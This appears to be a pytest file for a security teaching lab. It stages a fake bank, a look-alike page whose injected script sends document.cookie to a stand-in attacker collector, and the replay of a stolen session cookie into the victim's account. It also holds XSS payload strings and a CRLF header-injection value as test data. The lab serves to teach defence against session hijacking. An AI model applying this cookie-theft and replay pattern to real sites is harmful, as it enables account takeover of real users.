"""The pages a room sees, through a real in-process Lab: Victim Bank through the real edge,
the attacker's look-alike, the collector over real TLS verified against the lab CA, and
the replay of a stolen cookie through the edge's shared listener."""
from __future__ import annotations

import asyncio
import html
import re
import ssl
from urllib.parse import urlsplit

import aiohttp
import pytest
import pytest_asyncio

from lab.origins.bank import ALICE, read_account
from lab.run import Lab
from tests.test_origins import Tags, foreign_references

pytestmark = pytest.mark.asyncio(loop_scope="module")
VICTIM = "www.victim.example"
COLLECTOR = "collect.attacker.example"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def lab(world):
    async with Lab.ephemeral(world) as running:
        yield running


@pytest_asyncio.fixture(loop_scope="module")
async def http(lab):
    # Verified against the lab CA, host names included: what a browser trusting the CA checks.
    tls = ssl.create_default_context(cafile=str(lab.ca.cert_path))
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=tls)) as session:
        yield session


def edge_url(lab, listener: str, path: str) -> str:
    l = lab.world.listener_by_name[listener]
    return f"https://{l.host}:{l.port}{path}"


async def via_edge(http, lab, method, path, *, listener="anycast", cookie=None, **kw):
    """A request for www.victim.example at an edge listener (by address, so no DNS is involved),
    SNI and certificate check for the victim's name."""
    headers = {"Host": VICTIM, **({"Cookie": cookie} if cookie else {})}
    async with http.request(method, edge_url(lab, listener, path), headers=headers, server_hostname=VICTIM,
                            allow_redirects=False, **kw) as r:
        return r.status, r.headers, await r.text()


def collector_url(lab, path: str) -> str:
    return lab.world.origin_by_name["collector"].url + path


async def at_victim(http, lab, path, cookie=None, **form):
    """A POST straight to the victim origin (what is checked is the cookie it sets and ends)."""
    async with http.post(lab.world.origin_by_name["victim"].url + path, data=form, allow_redirects=False,
                         headers={"Cookie": cookie} if cookie else None) as r:
        return r.status, r.headers


async def log_in(http, lab, user="alice") -> str:
    status, headers = await at_victim(http, lab, "/login", user=user, password="pw")
    assert status == 303 and headers["Location"] == "/account"
    set_cookie = headers["Set-Cookie"]
    assert "httponly" not in set_cookie.lower()  # the lesson: script can read it
    return set_cookie.split(";", 1)[0]


async def steal(http, lab, body: str) -> dict:
    async with http.post(collector_url(lab, "/collect"), data=body, headers={"Content-Type": "text/plain"}) as r:
        assert r.status == 200
    async with http.get(collector_url(lab, "/collected")) as r:
        return (await r.json())[-1]


async def replay(http, lab, entry_id, origin=None):
    own = lab.world.origin_by_name["collector"].url
    async with http.post(collector_url(lab, f"/replay/{entry_id}"), headers={"Origin": origin or own},
                         allow_redirects=False) as r:
        return r.status, r.headers, await r.text()


async def entry(http, lab, entry_id) -> dict:
    async with http.get(collector_url(lab, "/collected")) as r:
        return next(e for e in await r.json() if e["id"] == entry_id)


# --- the victim -------------------------------------------------------------------------

async def test_alice_logs_in_through_the_edge_and_sees_her_account(lab, http):
    status, headers, page = await via_edge(http, lab, "GET", "/login")
    assert status == 200 and headers["X-Lab-Origin"] == "victim" and 'name="password"' in page
    cookie = await log_in(http, lab)
    status, headers, page = await via_edge(http, lab, "GET", "/account", cookie=cookie)
    assert status == 200 and headers["X-Lab-Origin"] == "victim"
    assert read_account(page) == {"holder": "alice", "number": ALICE.number, "balance": ALICE.balance}
    assert all(what in page for _, what, _ in ALICE.transactions)
    assert "HttpOnly</code> would stop that theft" in page and "ask you for your password" in page

    status, headers = await at_victim(http, lab, "/logout", cookie)
    assert status == 303 and headers["Location"] == "/" and 'session=""' in headers["Set-Cookie"]
    status, _, page = await via_edge(http, lab, "GET", "/account", cookie=cookie)
    assert status == 401 and ALICE.balance not in page and read_account(page) == {}


async def test_another_user_gets_an_empty_account_not_alices(lab, http):
    cookie = await log_in(http, lab, "mallory")
    _, _, page = await via_edge(http, lab, "GET", "/account", cookie=cookie)
    shown = read_account(page)
    assert shown["holder"] == "mallory" and shown["balance"] == "€ 0.00" and shown["number"] != ALICE.number


# --- the look-alike ---------------------------------------------------------------------

async def test_the_look_alike_is_the_banks_page_but_for_the_marker_and_the_payload(lab, http):
    lab.set_model("v1")
    _, real_headers, real = await via_edge(http, lab, "GET", "/")
    # The poisoned address (saas-v1), same name, same certificate check: the SaaS origin answers.
    _, fake_headers, fake = await via_edge(http, lab, "GET", "/", listener="saas-v1")
    assert (real_headers["X-Lab-Origin"], fake_headers["X-Lab-Origin"]) == ("victim", "saas")
    assert "served by victim" in real and "served by saas" in fake
    [script] = re.findall(r"<script>(.*?)</script>", fake, re.S)
    assert f"https://{COLLECTOR}:{lab.world.origin_by_name['collector'].port}/collect" in script
    assert "document.cookie" in script and "<script" not in real
    copy = fake.replace(f"<script>{script}</script>", "").replace("served by saas", "served by victim")
    assert copy == real


# --- the collector ----------------------------------------------------------------------

async def test_the_collector_serves_tls_with_a_lab_certificate_for_its_name(lab):
    collector = lab.world.origin_by_name["collector"]
    assert lab.endpoints["origins"]["collector"] == f"https://{collector.host}:{collector.port}"
    tls = ssl.create_default_context(cafile=str(lab.ca.cert_path))  # check_hostname on
    _, writer = await asyncio.open_connection(collector.host, collector.port, ssl=tls, server_hostname=COLLECTOR)
    sans = [v for _, v in writer.get_extra_info("peercert")["subjectAltName"]]
    writer.close()
    assert sans == [COLLECTOR, collector.host]
    assert (lab.ca.dir / f"{COLLECTOR}.key").stat().st_mode & 0o777 == 0o600
    with pytest.raises(ssl.SSLCertVerificationError):  # a name it has no certificate for
        await asyncio.open_connection(collector.host, collector.port, ssl=tls, server_hostname="collect.other.example")


async def test_a_post_over_tls_is_stored_and_answered_with_cors(lab, http):
    page_origin = f"https://{VICTIM}:{lab.world.listener_by_name['saas-v1'].port}"
    async with http.options(collector_url(lab, "/collect"), headers={
            "Origin": page_origin, "Access-Control-Request-Method": "POST"}) as r:
        assert r.status == 204 and r.headers["Access-Control-Allow-Origin"] == "*"
        assert "POST" in r.headers["Access-Control-Allow-Methods"]
    body = '{"cookie": "session=s1", "origin": "%s", "time": "2024-01-01T00:00:00.000Z"}' % page_origin
    async with http.post(collector_url(lab, "/collect"), data=body,
                         headers={"Origin": page_origin, "Content-Type": "text/plain"}) as r:
        assert r.status == 200 and r.headers["Access-Control-Allow-Origin"] == "*"
    async with http.get(collector_url(lab, "/collected")) as r:
        got = (await r.json())[-1]
    assert got["data"]["cookie"] == "session=s1" and got["origin"] == page_origin and got["replay"] is None
    assert got["source"] == "127.0.0.1" and got["method"] == "POST"


async def test_the_collector_page_lists_the_loot_and_runs_none_of_it(lab, http):
    evil = '{"cookie": "session=<script>alert(1)</script>", "origin": "<img src=x onerror=alert(2)>"}'
    stolen = await steal(http, lab, evil)
    async with http.get(collector_url(lab, "/")) as r:
        page, csp = await r.text(), r.headers["Content-Security-Policy"]
    assert r.status == 200 and "default-src 'none'" in csp
    assert "session=&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(2)&gt;" in page
    tags = [t for t, _ in Tags(page).tags]
    assert "script" not in tags and "img" not in tags
    assert f'id="loot-{stolen["id"]}"' in page


async def test_a_stolen_cookie_replayed_opens_alices_account_through_the_edge(lab, http):
    cookie = await log_in(http, lab)
    stolen = await steal(http, lab, '{"cookie": "%s", "origin": "https://%s"}' % (cookie, VICTIM))
    before = lab.events.since()[-1]["id"]
    status, headers, _ = await replay(http, lab, stolen["id"])
    assert status == 303 and headers["Location"] == f"/#loot-{stolen['id']}"
    result = (await entry(http, lab, stolen["id"]))["replay"]
    assert result["opened"] and result["holder"] == "alice" and result["balance"] == ALICE.balance
    # It went through the edge's shared listener, SNI and host the victim's, to the victim.
    [decision] = [e for e in lab.events.since(before) if e["kind"] == "route.decision"]
    assert (decision["listener"], decision["sni"], decision["host"], decision["origin"], decision["path"]) == \
        ("anycast", VICTIM, VICTIM, "victim", "/account")
    async with http.get(collector_url(lab, "/")) as r:
        page = await r.text()
    assert html.escape(f"Opened alice's account: balance {ALICE.balance}") in page


async def test_a_bogus_cookie_replayed_opens_nothing(lab, http):
    stolen = await steal(http, lab, '{"cookie": "session=guessed", "origin": "https://%s"}' % VICTIM)
    status, _, _ = await replay(http, lab, stolen["id"])
    result = (await entry(http, lab, stolen["id"]))["replay"]
    assert status == 303 and not result["opened"] and "holder" not in result
    assert result["status"] == 401 and result["detail"] == "victim answered 401: no account opened"


async def test_a_replay_is_started_from_the_collectors_page_only(lab, http):
    stolen = await steal(http, lab, '{"cookie": "session=x", "origin": "https://%s"}' % VICTIM)
    before = lab.events.since()[-1]["id"]
    status, _, page = await replay(http, lab, stolen["id"], origin="https://elsewhere.example")
    assert status == 403 and "not from https://elsewhere.example" in page
    assert (await entry(http, lab, stolen["id"]))["replay"] is None
    assert not [e for e in lab.events.since(before) if e["kind"] == "route.decision"]  # the edge saw nothing


@pytest.mark.parametrize("body,status,says", [
    ('{"origin": "https://www.victim.example"}', 400, "holds no cookie"),
    ('{"cookie": "session=a\\r\\nX-Injected: 1"}', 400, "holds no cookie"),  # not a header line's worth
    ("not json", 400, "holds no cookie"),
])
async def test_a_replay_needs_a_cookie_that_is_one(lab, http, body, status, says):
    stolen = await steal(http, lab, body)
    got, _, page = await replay(http, lab, stolen["id"])
    assert got == status and says in page and (await entry(http, lab, stolen["id"]))["replay"] is None


async def test_replaying_an_unknown_entry_is_a_404(lab, http):
    status, _, page = await replay(http, lab, 999999)
    assert status == 404 and "No entry #999999" in page


# --- offline ----------------------------------------------------------------------------

async def test_no_page_loads_anything_from_another_host(lab, http):
    cookie = await log_in(http, lab)
    pages = {path: (await via_edge(http, lab, "GET", path, cookie=cookie))[2] for path in ("/", "/login", "/account")}
    pages["401"] = (await via_edge(http, lab, "GET", "/account"))[2]
    pages["look-alike"] = (await via_edge(http, lab, "GET", "/", listener="saas-v1"))[2]
    for path, page in pages.items():
        assert "<style>" in page and foreign_references(page, VICTIM) == [], path
    await steal(http, lab, '{"cookie": "session=x", "origin": "https://www.victim.example"}')
    async with http.get(collector_url(lab, "/")) as r:
        page = await r.text()
    assert foreign_references(page, urlsplit(collector_url(lab, "/")).hostname) == []
